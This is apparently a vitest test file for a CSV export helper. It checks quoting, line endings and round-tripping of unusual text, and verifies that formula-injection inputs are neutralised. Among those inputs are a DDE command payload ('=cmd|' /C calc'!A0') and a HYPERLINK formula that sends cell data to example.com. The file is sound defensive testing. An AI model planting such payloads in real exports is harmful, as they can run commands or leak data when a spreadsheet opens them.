import { parse } from "papaparse";
import { expect, test } from "vitest";
import { type Column, csvHead, csvRows } from "./csv";

type Pair = { first: string | null; second: string | null };
const columns: Column<Pair>[] = [
  { header: "First", value: ({ first }) => first },
  { header: "Second, with a comma", value: ({ second }) => second },
];

const write = (first: string | null, second: string | null = "x") =>
  csvRows(columns, [{ first, second }]);

/** One value, written and read back. */
const readBack = (value: string) => parse<string[]>(write(value).trimEnd()).data[0]?.[0];

test("a file begins with a byte order mark and the columns' names", () => {
  expect(csvHead(columns)).toBe('\ufeff"First","Second, with a comma"\r\n');
});

test("every value is quoted and every line ends as RFC 4180 says", () => {
  expect(
    csvRows(columns, [
      { first: "a;b", second: null },
      { first: "", second: "d" },
    ]),
  ).toBe('"a;b",""\r\n"","d"\r\n');
  expect(csvRows(columns, [])).toBe("");
});

test.each([
  ["quotes", 'She said "yes", twice ""'],
  ["line breaks of every kind", "one\ntwo\r\nthree\rfour"],
  ["commas, semicolons, tabs inside", "a,b;c\td"],
  ["emoji", "🎉👨‍👩‍👧 candles 🕯️"],
  ["right to left", "مرحبا بكم، سؤال"],
  ["signs that are not in front", "1+1=2, x-y, ann@example.com"],
  ["spaces in front and behind", "  words  "],
  ["an apostrophe in front", "'tis"],
])("%s are read back as they were", (_, value) => {
  expect(readBack(value)).toBe(value);
});

test.each([
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\tword",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1",
  " =1",
  "\u00a0=1",
  "\u3000=1",
  "\u200b=1",
  "\ufeff=1",
  "\u202e=1",
  "\u0001=1",
  "=1\n+2",
  '=HYPERLINK("https://example.com?x="&A1,"See")',
  "=cmd|' /C calc'!A0",
])("%j becomes text", (value) => {
  expect(readBack(value)).toBe(`'${value}`);
});
